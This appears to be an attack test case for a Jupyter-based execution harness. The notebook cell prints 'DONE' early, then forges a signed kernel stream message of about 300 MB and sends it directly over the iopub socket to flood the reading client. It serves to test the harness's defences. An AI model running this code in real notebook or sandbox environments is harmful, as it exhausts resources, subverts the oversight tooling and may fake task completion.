# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
import json

from IPython import get_ipython

print("DONE", flush=True)
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")["header"]
header = kernel.session.msg_header("stream")
parts = [json.dumps(part, default=str).encode() for part in (header, parent, {})]
parts.append(b'{"name": "stdout", "text": "' + b"x" * (300 << 20) + b'"}')
signature = kernel.session.sign(parts)
kernel.iopub_thread.socket.send_multipart([b"x", b"<IDS|MSG>", signature, *parts], copy=False)
